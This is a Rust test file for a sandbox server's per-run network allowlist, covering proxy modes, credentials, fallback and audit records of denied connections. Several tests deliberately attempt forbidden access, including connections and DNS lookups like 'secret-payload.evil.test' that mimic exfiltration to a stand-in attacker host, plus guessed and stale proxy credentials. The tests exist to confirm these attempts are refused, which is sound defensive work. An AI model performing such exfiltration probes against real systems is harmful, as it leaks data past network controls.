//! `network.domains` over the socket (docs/network.md): each run in a
//! network namespace of its own, reaching only the listed hosts, through
//! the proxy or directly. The upstreams listen on the host's loopback under
//! a name pinned there with `network.hosts` (`up.test`); the server runs as
//! root, so it makes the namespaces. Each refusal test also checks that
//! the upstream never saw a connection.

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use crate::sandbox::{outside_dir, Fixture, Mode, Policy};

/// An HTTP upstream on the host's loopback answering `hello <n>`, and how
/// many connections it took.
struct Upstream {
    port: u16,
    seen: Arc<AtomicUsize>,
}

impl Upstream {
    fn start() -> Upstream {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        let seen = Arc::new(AtomicUsize::new(0));
        let count = seen.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut c) = conn else { continue };
                let n = count.fetch_add(1, Ordering::SeqCst) + 1;
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut buf = [0u8; 2048];
                let _ = c.read(&mut buf);
                let _ = write!(
                    c,
                    "HTTP/1.0 200 OK\r\nContent-Length: 8\r\n\r\nhello {n:<2}"
                );
            }
        });
        Upstream { port, seen }
    }

    fn seen(&self) -> usize {
        self.seen.load(Ordering::SeqCst)
    }
}

/// A server whose policy lists `up.test:<port>` (pinned to 127.0.0.1) and
/// `extra` lines, with the webprobe in its working directory.
fn fixture(up: &Upstream, extra: &[&str]) -> (Fixture, String) {
    let outside = outside_dir();
    let mut policy = Policy::new(outside.path());
    policy.domains = vec![format!("up.test:{}", up.port)];
    policy.domains.extend(extra.iter().map(|s| s.to_string()));
    policy.hosts = vec![("up.test".into(), "127.0.0.1".into())];
    let f = Fixture::start(outside, Mode::File(policy), &[], &[], None);
    let probe = f.install_webprobe();
    (f, probe)
}

#[test]
fn a_listed_name_is_reached_by_http_connect_socks_and_directly() {
    let up = Upstream::start();
    let (mut f, probe) = fixture(&up, &[]);
    let p = up.port;
    for (how, cmd) in [
        ("absolute-form", format!("{probe} proxy-get up.test {p}")),
        ("CONNECT", format!("{probe} proxy-connect up.test {p}")),
        ("SOCKS5", format!("{probe} socks up.test {p}")),
        ("direct", format!("{probe} get up.test {p}")),
    ] {
        let out = f.sh(&cmd);
        assert!(out.ok().contains("hello"), "{how}: {out:?}");
    }
    assert_eq!(up.seen(), 4);
    // The stub's stand-in address, not the pin: the tool never learns it.
    let out = f.sh(&format!("{probe} resolve up.test"));
    assert_eq!(out.ok().trim(), "198.18.0.1", "{out:?}");
}

#[test]
fn an_unlisted_host_is_refused_with_the_line_that_allows_it_and_never_reached() {
    let up = Upstream::start();
    let (mut f, probe) = fixture(&up, &[]);
    let p = up.port;
    let out = f.sh(&format!("{probe} proxy-get evil.test {p}"));
    let text = out.ok();
    assert!(text.starts_with("HTTP/1.1 403"), "{out:?}");
    assert!(
        text.contains(&format!(
            "evil.test:{p} is not allowed by the sandbox's network.domains; the line \"evil.test:{p}\" there would allow it"
        )),
        "{out:?}"
    );
    let out = f.sh(&format!("{probe} socks evil.test {p}"));
    assert_eq!(out.ok().lines().next(), Some("socks reply 2"), "{out:?}");
    // A name no line lists gets no address: DNS carries nothing out.
    let out = f.sh(&format!("{probe} resolve secret-payload.evil.test"));
    assert!(out.is_error, "{out:?}");
    assert_eq!(up.seen(), 0, "a refused request reached the upstream");
    // The run's denials: the result's last lines, the file of the run.
    let out = f.sh(&format!(
        "{probe} proxy-get evil.test {p}; {probe} resolve leak.evil.test"
    ));
    assert!(
        out.text.contains(&format!(
            "[toolsrv: denied connect evil.test:{p}; allow with network.domains: [\"evil.test:{p}\"]]"
        )),
        "{out:?}"
    );
    assert!(
        out.text.contains(
            "[toolsrv: denied resolve leak.evil.test; allow with network.domains: [\"leak.evil.test\"]]"
        ),
        "{out:?}"
    );
    let payload = toolsrv_protocol::encode_payload(&[
        ("tool", "sh"),
        ("agent", "a1"),
        (
            "script",
            &format!("{probe} proxy-get evil.test {p}; {probe} proxy-get evil.test {p}"),
        ),
    ]);
    let pid = f.conn().ask("proc/new.bg", &payload).expect("started");
    let pid = pid.trim();
    let _ = f.conn().read_file(&format!("proc/{pid}/wait"));
    let file = f.conn().read_file(&format!("proc/{pid}/denials"));
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&file)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert_eq!(lines.len(), 1, "{lines:?}");
    let d = &lines[0];
    assert_eq!(d["kind"], "domain");
    assert_eq!(d["access"], "connect");
    assert_eq!(d["target"], format!("evil.test:{p}"));
    assert_eq!(d["count"], 2);
    assert_eq!(d["allow"], format!("network.domains: [\"evil.test:{p}\"]"));
    assert!(d["time"].as_str().is_some_and(|t| t.ends_with('Z')), "{d}");
}

#[test]
fn addresses_other_loopbacks_udp_and_an_unpinned_name_on_loopback_go_nowhere() {
    let up = Upstream::start();
    let (mut f, probe) = fixture(&up, &["localhost:1"]);
    let p = up.port;
    // The upstream's own address, and another loopback address on the
    // listed port: a literal is never relayed.
    for addr in ["127.0.0.1", "127.0.0.2", "198.18.9.9"] {
        let out = f.sh(&format!("{probe} get {addr} {p}"));
        assert!(out.is_error, "{addr}: {out:?}");
    }
    let out = f.sh(&format!("{probe} proxy-connect 127.0.0.1 {p}"));
    assert!(out.ok().starts_with("HTTP/1.1 403"), "{out:?}");
    // A listed name that resolves (on the server) to loopback, unpinned.
    let out = f.sh(&format!("{probe} proxy-get localhost 1"));
    let text = out.ok();
    assert!(
        text.starts_with("HTTP/1.1 403") && text.contains("a loopback address"),
        "{out:?}"
    );
    assert_eq!(up.seen(), 0);
    // UDP to the host's loopback: sent into the run's namespace, where
    // nothing listens.
    let udp = UdpSocket::bind("127.0.0.1:0").expect("udp");
    let uport = udp.local_addr().expect("addr").port();
    let out = f.sh(&format!("{probe} udp 127.0.0.1 {uport}"));
    let _ = out;
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .expect("timeout");
    let mut buf = [0u8; 16];
    assert!(udp.recv(&mut buf).is_err(), "a datagram got out");
}

#[test]
fn only_the_runs_own_credentials_open_its_proxy() {
    let up = Upstream::start();
    let (mut f, probe) = fixture(&up, &[]);
    let p = up.port;
    let first = f.sh("echo \"$HTTP_PROXY\"");
    let url = first.ok().trim().to_string();
    let auth = url
        .trim_start_matches("http://")
        .rsplit_once('@')
        .map(|(a, _)| a.to_string())
        .expect("user-info in HTTP_PROXY");
    assert!(auth.starts_with("toolsrv:") && auth.len() > 20, "{url}");
    // An ended run's credentials, and none that fit.
    for shown in [auth.as_str(), "toolsrv:guess"] {
        let out = f.sh(&format!("{probe} proxy-get up.test {p} {shown}"));
        let text = out.ok();
        assert!(
            text.starts_with("HTTP/1.1 407") && text.contains("Proxy-Authenticate: Basic"),
            "{out:?}"
        );
    }
    assert_eq!(up.seen(), 0);
    // Its own: through.
    let out = f.sh(&format!("{probe} proxy-get up.test {p}"));
    assert!(out.ok().contains("hello"), "{out:?}");
}

#[test]
fn two_runs_at_once_share_no_network_and_a_run_squats_no_abstract_name() {
    let up = Upstream::start();
    let (mut f, _) = fixture(&up, &[]);
    let np = f.install_netprobe();
    let name = format!("toolsrv-test-squat-{}", std::process::id());
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        l.local_addr().expect("addr").port()
    };
    // A background run holds an abstract name and a listener on its
    // loopback until the test says stop.
    let holder = format!(
        "{np} hold {name} {port} > held & \
         for i in $(seq 1 400); do [ -e stop ] && break; sleep 0.05; done; kill $!"
    );
    let bg =
        toolsrv_protocol::encode_payload(&[("tool", "sh"), ("agent", "a1"), ("script", &holder)]);
    let pid = f.conn().ask("proc/new.bg", &bg).expect("started");
    let pid = pid.trim().to_string();
    let cwd = f.cwd().to_path_buf();
    let held = || std::fs::read_to_string(cwd.join("held")).unwrap_or_default();
    assert!(
        crate::util::wait_until(crate::util::WAIT, || held().contains("holding")),
        "the holder did not start: {:?}",
        held()
    );
    // The host can still take the name: the run's is its own.
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("name");
    let host = std::os::unix::net::UnixListener::bind_addr(&addr);
    // Another run reaches neither the name nor the first run's listener.
    let other = f.sh(&format!("{np} tcp {port}"));
    std::fs::write(cwd.join("stop"), "").expect("stop");
    let _ = f.conn().read_file(&format!("proc/{pid}/wait"));
    assert!(
        host.is_ok(),
        "a run squatted the host's abstract name: {host:?}"
    );
    assert!(
        other.is_error,
        "another run reached the first one's listener: {other:?}"
    );
}

#[test]
fn without_domains_a_run_has_no_proxy_and_the_hosts_network() {
    let outside = outside_dir();
    let policy = Policy::new(outside.path());
    let mut f = Fixture::start(outside, Mode::File(policy), &[], &[], None);
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let out = f.bash(&format!(
        "env | grep -ic '^[a-z_]*_proxy='; echo x > /dev/tcp/127.0.0.1/{port} && echo reached"
    ));
    assert_eq!(out.text.trim(), "0\nreached", "{out:?}");
}

/// A server forced to the fallback (`TOOLSRV_NETWORK=fallback`) whose
/// policy lists `up.test:<port>`, with `best_effort` as given.
fn fallback(up: &Upstream, best_effort: bool) -> (Fixture, String) {
    let outside = outside_dir();
    let mut policy = Policy::new(outside.path());
    policy.best_effort = best_effort;
    policy.domains = vec![format!("up.test:{}", up.port)];
    policy.hosts = vec![("up.test".into(), "127.0.0.1".into())];
    let f = Fixture::start(
        outside,
        Mode::File(policy),
        &[],
        &[("TOOLSRV_NETWORK", "fallback")],
        None,
    );
    let probe = f.install_webprobe();
    (f, probe)
}

#[test]
fn the_fallback_reaches_listed_hosts_through_the_proxy_only_and_fails_closed_otherwise() {
    let up = Upstream::start();
    let (mut f, probe) = fallback(&up, true);
    let p = up.port;
    assert!(
        f.srv
            .log_text()
            .contains("the fallback for network.domains (TOOLSRV_NETWORK=fallback)"),
        "{}",
        f.srv.log_text()
    );
    for cmd in [
        format!("{probe} proxy-get up.test {p}"),
        format!("{probe} proxy-connect up.test {p}"),
        format!("{probe} socks up.test {p}"),
    ] {
        let out = f.sh(&cmd);
        assert!(out.ok().contains("hello"), "{cmd}: {out:?}");
    }
    assert_eq!(up.seen(), 3);
    let out = f.sh(&format!("{probe} proxy-get evil.test {p}"));
    assert!(out.ok().starts_with("HTTP/1.1 403"), "{out:?}");
    // Straight to the upstream, UDP, DNS: refused by the kernel.
    for cmd in [
        format!("{probe} get 127.0.0.1 {p}"),
        format!("{probe} get up.test {p}"),
        format!("{probe} udp 127.0.0.1 53"),
    ] {
        let out = f.sh(&cmd);
        assert!(out.is_error, "{cmd}: {out:?}");
    }
    assert_eq!(up.seen(), 3, "a refused connection reached the upstream");
    // The shared proxy: an ended run's credentials open nothing.
    let url = f.sh("echo \"$HTTP_PROXY\"").ok().trim().to_string();
    let auth = url
        .trim_start_matches("http://")
        .rsplit_once('@')
        .map(|(a, _)| a.to_string())
        .expect("user-info in HTTP_PROXY");
    let out = f.sh(&format!("{probe} proxy-get up.test {p} {auth}"));
    assert!(out.ok().starts_with("HTTP/1.1 407"), "{out:?}");
    assert_eq!(up.seen(), 3);
}

#[test]
fn best_effort_false_refuses_the_fallback_with_the_reason() {
    let up = Upstream::start();
    let (mut f, probe) = fallback(&up, false);
    let out = f.sh(&format!("{probe} proxy-get up.test {}", up.port));
    assert!(
        out.is_error
            && out.text.contains("TOOLSRV_NETWORK=fallback")
            && out.text.contains("general.best_effort: false"),
        "{out:?}"
    );
    assert_eq!(up.seen(), 0);
}

#[test]
fn an_address_line_allows_that_address_and_port_directly_and_through_the_proxy() {
    let up = Upstream::start();
    let other = Upstream::start();
    let p = up.port;
    let (mut f, probe) = fixture(&up, &[&format!("127.0.0.1:{p}")]);
    for cmd in [
        format!("{probe} get 127.0.0.1 {p}"),
        format!("{probe} proxy-connect 127.0.0.1 {p}"),
    ] {
        let out = f.sh(&cmd);
        assert!(out.ok().contains("hello"), "{cmd}: {out:?}");
    }
    assert_eq!(up.seen(), 2);
    // Another port of the same address: no line allows it.
    let out = f.sh(&format!("{probe} proxy-connect 127.0.0.1 {}", other.port));
    assert!(out.ok().starts_with("HTTP/1.1 403"), "{out:?}");
    assert!(
        out.text
            .contains(&format!("[toolsrv: denied connect 127.0.0.1:{}; allow with network.domains: [\"127.0.0.1:{}\"]]", other.port, other.port)),
        "{out:?}"
    );
    assert_eq!(other.seen(), 0);
}

#[test]
fn a_runs_denials_are_audit_records_after_its_end() {
    let up = Upstream::start();
    let outside = outside_dir();
    let log = outside.path().join("audit.log");
    let mut policy = Policy::new(outside.path());
    policy.domains = vec![format!("up.test:{}", up.port)];
    policy.hosts = vec![("up.test".into(), "127.0.0.1".into())];
    let log_arg = log.display().to_string();
    let mut f = Fixture::start(
        outside,
        Mode::File(policy),
        &["--audit", &log_arg],
        &[],
        None,
    );
    let probe = f.install_webprobe();
    let p = up.port;
    f.sh(&format!(
        "{probe} proxy-get evil.test {p}; {probe} proxy-get evil.test {p}"
    ));
    let text = std::fs::read_to_string(&log).expect("the audit log");
    let denial: serde_json::Value = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("JSON"))
        .find(|r| r["event"] == "denial")
        .unwrap_or_else(|| panic!("no denial record: {text}"));
    assert_eq!(denial["target"], format!("evil.test:{p}"));
    assert_eq!(denial["count"], 2);
    assert_eq!(
        denial["allow"],
        format!("network.domains: [\"evil.test:{p}\"]")
    );
    let end = text
        .lines()
        .find(|l| l.contains(r#""event":"run_end""#))
        .expect("a run_end");
    assert!(end.contains(r#""denials":2"#), "{end}");
}
